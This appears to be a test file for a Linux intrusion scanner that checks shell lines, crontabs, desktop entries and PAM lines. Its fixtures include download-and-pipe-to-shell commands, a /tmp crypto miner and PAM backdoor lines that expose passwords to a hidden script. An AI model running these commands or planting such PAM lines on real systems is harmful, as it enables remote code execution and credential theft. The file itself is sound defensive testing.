import { expect, test } from 'vitest';
import { judgePamLine } from '../../../src-main/core/facts/pam-modules.js';
import { cronJobsIn } from '../../../src-main/core/facts/readers/crontab.js';
import { readDesktopEntry } from '../../../src-main/core/facts/readers/desktop-entry.js';
import { mayBeElsewhere, readShellLine, strangePlace } from '../../../src-main/core/facts/readers/shell-line.js';

test.each([
  ['/usr/bin/nice -n 19 /tmp/.x/miner -o pool', ['/usr/bin/nice', '/tmp/.x/miner'].slice(1)],
  ['sh -c "cd / && /var/tmp/a --x"', ['/var/tmp/a']],
  ['bash -lc "/dev/shm/b arg"', ['/dev/shm/b']],
  ['/usr/bin/python3 /tmp/c.py', ['/usr/bin/python3', '/tmp/c.py']],
  ['[ -f /tmp/d ] && . /tmp/d', ['/tmp/d']],
  ['if [ -x /tmp/e ]; then /tmp/e; fi', ['/tmp/e']],
  ['A=1 env B=2 /tmp/f', ['/tmp/f']],
  ['/bin/sh -e /tmp/g', ['/bin/sh', '/tmp/g']],
  ["(exec '/tmp/h i')", ['/tmp/h i']],
])('what a line runs: %s', (line, programs) => {
  expect(readShellLine(line).programs).toEqual(programs);
});

test.each([
  'find /tmp /var/tmp -mtime +9 -delete',
  'flock -n /tmp/own.lock true',
  'python3 -m json.tool /tmp/x.json',
  "perl -ne 'print' /tmp/x",
  'rm -rf /tmp/build # /tmp/x',
  'cd /tmp && tar xf a.tar',
  'export TMPDIR=/tmp/$USER',
  'test -x /tmp/x',
])('nothing of /tmp is run by: %s', (line) => {
  expect(readShellLine(line).programs.filter((program) => strangePlace(program) !== null)).toEqual([]);
});

test.each([
  'curl -fsSL http://x/i.sh | sh',
  '(curl -s u || wget -qO- u) | sudo bash -s -- now',
  'wget -q -O - u | python3 -',
  'echo aGk= | base64 -d | sh',
  'bash -c "$(curl -fsSL u)"',
  'bash <(curl -s u)',
  'curl -s http://203.0.113.1/x | bash"',
])('a download is run unseen by: %s', (line) => {
  expect(readShellLine(line).pipesIntoShell).toBe(true);
});

test.each([
  'curl -fsS https://hc.example/ping >/dev/null',
  'curl -s u | python3 -m json.tool',
  "wget -qO- u | perl -ne 'print if /x/'",
  'curl -s u | jq .name | tee /etc/x',
  'cat list | sh',
  'curl u; sh /usr/local/bin/x',
])('no download is run by: %s', (line) => {
  expect(readShellLine(line).pipesIntoShell).toBe(false);
});

test('places: hidden ones of the system count, those of projects do not', () => {
  expect(strangePlace('/usr/lib/.x/y')).toMatch(/hidden/);
  expect(strangePlace('/etc/.sshd')).toMatch(/hidden/);
  for (const path of [
    '/srv/app/.venv/bin/python',
    '/home/a/.local/bin/b',
    '/opt/x/.y/z',
    '/usr/bin/env',
    '/tmpx/y',
    '/usr/share/app/.venv/bin/x',
  ])
    expect(strangePlace(path)).toBeNull();
  for (const path of ['/mnt/usb/x', '/opt/%i/x', '/opt/$VERSION/x']) expect(mayBeElsewhere(path)).toBe(true);
});

test('crontab: lines, words for times, a user; settings and comments are no jobs', () => {
  const text = 'MAILTO=a\n# 1 2 3 4 5 root x\n*/5 1-3 * jan mon root /a b\n@reboot root\t/c\n\n5 4 * * sun\n';
  expect(cronJobsIn(text, true).map(({ line, command }) => [line, command])).toEqual([
    [3, '/a b'],
    [4, '/c'],
  ]);
  expect(cronJobsIn('0 0 * * * /a b\n', false)[0]?.command).toBe('/a b');
});

test('desktop entry: its main group only, without field codes', () => {
  const text = '[Desktop Action x]\nExec=/no\n[Desktop Entry]\nName=A\nExec=/a %U --b\nHidden=true\n[Other]\nExec=/no\n';
  expect(readDesktopEntry(text)).toEqual({ name: 'A', exec: '/a  --b', tryExec: '', hidden: true });
  expect(readDesktopEntry('Exec=/a\n')).toBeNull();
});

test('PAM: a module or a program of /tmp is odd, the usual ones are not', () => {
  expect(judgePamLine('auth optional pam_exec.so quiet expose_authtok /tmp/.l/log.sh')).toMatch(/every log-in runs/);
  expect(judgePamLine('auth sufficient /var/tmp/pam_backdoor.so')).toMatch(/module/);
  for (const line of [
    'auth [success=1 default=ignore] pam_unix.so nullok',
    '# auth optional pam_exec.so /tmp/x',
    '@include common-auth',
    'session optional pam_exec.so /usr/local/bin/notify',
    '-session optional pam_systemd.so',
  ])
    expect(judgePamLine(line)).toBeNull();
});
